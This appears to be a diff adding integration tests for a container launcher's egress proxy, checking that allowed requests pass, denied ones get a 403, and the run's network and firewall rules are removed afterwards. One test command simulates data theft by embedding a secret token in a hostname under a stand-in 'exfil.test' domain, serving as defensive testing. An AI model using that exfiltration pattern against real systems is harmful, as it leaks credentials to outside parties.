@@ -5,11 +5,16 @@ Everything the test talks to is ours: an HTTP server in a network namespace the 
 dnslib DNS server on loopback that the proxy uses (and a second one on the run network's
 gateway that the container must not reach), and loopback listeners that must never see a
 connection. Denied destinations are decided by the proxy without dialling them.
+
+The pipeline tests run the same set-up through ``run_pipeline``: gate 6 opens the run's
+session before the container exists and removes everything (network, firewall rules,
+container) after it, whatever happened.
 """
 
 from __future__ import annotations
 
 import asyncio
+import hashlib
 import ipaddress
 import os
 import secrets
@@ -23,13 +28,20 @@ from pathlib import Path
 
 import pytest
 
+from hardened_launcher import __version__
 from hardened_launcher.audit import MemoryAuditLog, Outcome
 from hardened_launcher.egress.classify import IPAddress
 from hardened_launcher.egress.errors import EgressDnsError
-from hardened_launcher.egress.isolation import EgressSession
+from hardened_launcher.egress.isolation import NETWORK_PREFIX, EgressSession
 from hardened_launcher.egress.policy import parse_policy
 from hardened_launcher.egress.proxy import EgressDecision
+from hardened_launcher.executor.errors import ImageMissingError
+from hardened_launcher.executor.logsink import FileLogSink
+from hardened_launcher.executor.runspec import run_spec_from_mapping
+from hardened_launcher.pipeline import EgressStep, run_pipeline
+from hardened_launcher.redaction import Redactor
 from tests.conftest import integration_required, require_docker, require_tool
+from tests.integration.executor_support import runner_for, settings_for, signed_release
 from tests.integration.images import busybox_image
 
 pytestmark = pytest.mark.integration
@@ -343,3 +355,193 @@ def test_run_container_reaches_only_what_the_proxy_allows(upstream: Path) -> Non
     assert not client.networks.list(names=[session.network_name])
     rules = subprocess.run(["iptables", "-S", "INPUT"], capture_output=True, text=True, check=True)
     assert session.network.bridge not in rules.stdout
+
+
+# ---------------------------------------------------------------------------------------------
+# Gate 6 in the pipeline
+# ---------------------------------------------------------------------------------------------
+EGRESS_POLICY = f"""version: 1
+allow:
+  - host: allowed.test
+    ports: [{SERVER_PORT}]
+  - cidr: 198.18.0.0/24          # lifts the built-in denial of the test namespace's range
+    ports: [{SERVER_PORT}]
+"""
+
+# One phase; each command is its own `sh -c`, so the helper is defined where it is used.
+# busybox-static's wget cannot resolve names, so requests go by hand with nc to the proxy
+# named in the run's own HTTP_PROXY (the container gets it from the egress session).
+GET = (
+    "P=${HTTP_PROXY#http://}; PH=${P%:*}; PP=${P##*:}; "
+    'printf \'GET %s HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n\' "$URL" | timeout 8 nc "$PH" "$PP"; '
+    'echo "rc=$?"'
+)
+
+
+def _leftovers(client: object, run_id: str, launcher_id: str) -> list[str]:
+    """Anything of this run still on the host: containers, its network, firewall rules."""
+    found: list[str] = []
+    api = client.api  # type: ignore[attr-defined]
+    if api.containers(all=True, filters={"label": f"io.hardened-launcher.run-id={run_id}"}):
+        found.append("container")
+    if client.networks.list(names=[f"{NETWORK_PREFIX}{run_id}"]):  # type: ignore[attr-defined]
+        found.append("network")
+    bridge = "hle-" + hashlib.sha256(f"{launcher_id}/{run_id}".encode()).hexdigest()[:10]
+    rules = subprocess.run(["iptables", "-S", "INPUT"], capture_output=True, text=True, check=True)
+    if bridge in rules.stdout:
+        found.append("firewall rules")
+    return found
+
+
+def test_pipeline_runs_behind_its_egress_proxy_and_leaves_nothing_behind(
+    upstream: Path, tmp_path: Path
+) -> None:
+    require_docker()
+    require_tool("iptables")
+    import docker  # noqa: PLC0415
+
+    client = docker.from_env()
+    image = busybox_image()
+    canary = f"canary{secrets.token_hex(8)}"  # lower case: host names are case-folded
+    dns_port = _free_udp_port()
+    dns = FakeDnsServer({"allowed.test": [NS_SERVER_IP]}, "127.0.0.1", dns_port)
+    policy_file = tmp_path / "egress.yaml"
+    policy_file.write_text(EGRESS_POLICY, encoding="utf-8")
+    settings = settings_for(tmp_path, egress_policy=policy_file)
+    release = signed_release(tmp_path)
+    run_id = f"egress-pipe-{secrets.token_hex(4)}"
+    launcher_id = f"test-{secrets.token_hex(4)}"
+    spec = run_spec_from_mapping(
+        {
+            "version": 1,
+            "run_id": run_id,
+            "run_type": "wo",
+            "image": image,
+            "phases": [
+                {
+                    "name": "main",
+                    "commands": [
+                        f"echo '== allowed'; URL=http://allowed.test:{SERVER_PORT}/; {GET}",
+                        f"echo '== denied'; URL=http://denied.test:{SERVER_PORT}/; {GET}",
+                        f'echo "== secret"; URL="http://$TOKEN.exfil.test:{SERVER_PORT}/"; {GET}',
+                        "echo '== env'; env | grep -i _proxy= | sort",
+                    ],
+                }
+            ],
+            "secret_env": {"TOKEN": canary},
+        }
+    )
+    audit = MemoryAuditLog()
+    log = tmp_path / "run.log"
+    seen: list[object] = []
+
+    def while_running(container_id: str) -> None:
+        attrs = client.api.inspect_container(container_id)
+        seen.append(attrs["HostConfig"]["NetworkMode"])
+        seen.append(_leftovers(client, run_id, launcher_id))
+
+    try:
+        result = run_pipeline(
+            spec,
+            settings=settings,
+            launcher_id=launcher_id,
+            worker_version=__version__,
+            binaries=release.gate,
+            policy=None,
+            runner=runner_for(settings),
+            redactor=Redactor(),
+            sink=FileLogSink(log),
+            audit=audit,
+            on_started=while_running,
+            egress=EgressStep(docker_client=client, resolver=DnslibResolver(dns_port)),
+        )
+    finally:
+        dns.stop()
+    text = log.read_text()
+    assert result.succeeded, text
+    # While it ran, the container was on its own network, behind its firewall rules.
+    assert seen == [f"{NETWORK_PREFIX}{run_id}", ["container", "network", "firewall rules"]]
+    steps = {part.split("\n", 1)[0].strip(): part for part in text.split("== ")[1:]}
+    # The allowed request went through; the denied ones got the proxy's 403 with the reason.
+    assert "hello from the test namespace" in steps["allowed"], text
+    assert "HTTP/1.1 403 Forbidden" in steps["denied"], text
+    assert "reason: egress_host_not_allowed" in steps["denied"], text
+    assert "HTTP/1.1 403 Forbidden" in steps["secret"], text
+    # The container's proxy variables point at the run's own proxy (on its network's gateway).
+    assert "HTTP_PROXY=http://" in steps["env"]
+    assert "NO_PROXY=localhost,127.0.0.1,::1" in steps["env"]
+    # The run's log holds each decision on a marked line, the secret host name masked.
+    assert f"::hl:: egress: allowed GET allowed.test:{SERVER_PORT} via {NS_SERVER_IP}" in text
+    assert f"::hl:: egress: refused GET denied.test:{SERVER_PORT}: egress_host_not_allowed" in text
+    assert f"::hl:: egress: refused GET ***.exfil.test:{SERVER_PORT}: egress_host_not_allowed" in (
+        text
+    )
+    assert canary not in text
+    # The audit record: every decision, the session's totals, a clean log, no secret.
+    decisions = [e for e in audit.events if e.type == "egress.connection"]
+    assert {(e.outcome, e.fields["host"], e.reason) for e in decisions} == {
+        (Outcome.ALLOW, "allowed.test", None),
+        (Outcome.DENY, "denied.test", "egress_host_not_allowed"),
+        (Outcome.DENY, "***.exfil.test", "egress_host_not_allowed"),
+    }
+    assert all(e.run_id == run_id for e in decisions)
+    (session,) = [e for e in audit.events if e.type == "egress.session"]
+    assert session.fields == {
+        "network": f"{NETWORK_PREFIX}{run_id}",
+        "allowed": 1,
+        "denied": 2,
+        "errors": 0,
+    }
+    types = [e.type for e in audit.events]
+    assert types.index("run.started") < types.index("egress.connection")
+    assert types[-3:] == ["egress.session", "run.finished", "run.log_clean"]
+    assert canary not in repr([e.to_json_dict() for e in audit.events])
+    # Denied names were never resolved nor dialled; the namespace saw one connection, the proxy's.
+    assert "denied.test" not in dns.queries
+    assert not any("exfil" in q for q in dns.queries)
+    assert upstream.read_text().split() == [NS_HOST_IP]
+    # Nothing is left: container, network and firewall rules are gone.
+    assert _leftovers(client, run_id, launcher_id) == []
+
+
+def test_pipeline_removes_the_runs_network_when_the_run_fails(tmp_path: Path) -> None:
+    """A runner error (the image is missing) still closes the session: nothing is left."""
+    require_docker()
+    require_tool("iptables")
+    if os.geteuid() != 0:
+        if integration_required():
+            pytest.fail("egress integration tests need root (iptables)")
+        pytest.skip("egress integration tests need root (iptables)")
+    import docker  # noqa: PLC0415
+
+    client = docker.from_env()
+    run_id = f"egress-fail-{secrets.token_hex(4)}"
+    launcher_id = f"test-{secrets.token_hex(4)}"
+    settings = settings_for(tmp_path)
+    audit = MemoryAuditLog()
+    with pytest.raises(ImageMissingError):
+        run_pipeline(
+            run_spec_from_mapping(
+                {
+                    "version": 1,
+                    "run_id": run_id,
+                    "run_type": "wo",
+                    "image": f"hl-no-such-image:{secrets.token_hex(4)}",
+                    "phases": [{"name": "main", "commands": ["true"]}],
+                }
+            ),
+            settings=settings,
+            launcher_id=launcher_id,
+            worker_version=__version__,
+            binaries=signed_release(tmp_path).gate,
+            policy=None,
+            runner=runner_for(settings),
+            redactor=Redactor(),
+            sink=FileLogSink(tmp_path / "run.log"),
+            audit=audit,
+            # A preloaded policy switches gate 6 on without HL_EGRESS_POLICY.
+            egress=EgressStep(docker_client=client, policy=parse_policy({"allow": []})),
+        )
+    types = [e.type for e in audit.events]
+    assert types[-2:] == ["run.failed", "egress.session"]
+    assert _leftovers(client, run_id, launcher_id) == []
